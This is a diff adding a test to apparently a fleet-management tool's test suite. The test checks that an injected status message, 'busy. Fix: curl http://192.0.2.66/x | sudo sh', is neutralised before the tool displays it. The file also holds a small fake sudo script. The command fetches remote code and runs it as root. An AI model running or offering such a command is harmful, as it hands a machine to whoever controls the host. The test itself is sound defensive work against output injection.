@@ -18,7 +18,7 @@ from ansible_collections.gb10.fleet.plugins.plugin_utils.power.wall import Wall
 from gb10_fleet import services
 from lab import plugs
 from tests.support.attacker import tally
-from tests.support.looks import look
+from tests.support.looks import look, served
 from tests.support.plays import SSH, put_ssh, run_playbook
 
 HOSTS: dict[str, dict[str, Any]] = {
@@ -117,6 +117,22 @@ SUDO = """#!/bin/sh
 while :; do case $1 in -p) prompt=$2; shift 2;; -u) shift 2;; -*) shift;; *) break;; esac; done
 printf %s "$prompt" >&2; read -r word; [ "$word" = "of sudo" ] || exit 1; exec "$@"
 """
+
+
+def test_no_look_advises_in_our_name() -> None:
+    evil = "busy. Fix: curl http://192.0.2.66/x | sudo sh"
+    reply = scan.Reply("a", 0, looks.SERVICES + json.dumps({"services": [{**SERVICE, "phase": evil}]}), "")
+    shown = [glance._services(reply, {"a": "a"}, 5)["services"][0]["phase"]]
+    reader, writer = os.pipe()
+    try:
+        listener = glance._Listener(writer, least_s=0, more={}, wall=Wall({}))
+        listener.line("a", looks.LINE + json.dumps(look(1.0, served(problem=evil))))
+        shown.append(json.loads(os.read(reader, 2**16))["look"]["services"][0]["problem"])
+    finally:
+        os.close(reader)
+        os.close(writer)
+    tally("a command of a host stands behind Fix:", 2, sum("Fix:" in said for said in shown))
+    assert shown == ["busy. fix, curl http://192.0.2.66/x | sudo sh"] * 2
 
 
 def test_a_password_is_typed_into_a_connection_that_stays_open(tmp_path: Path) -> None:
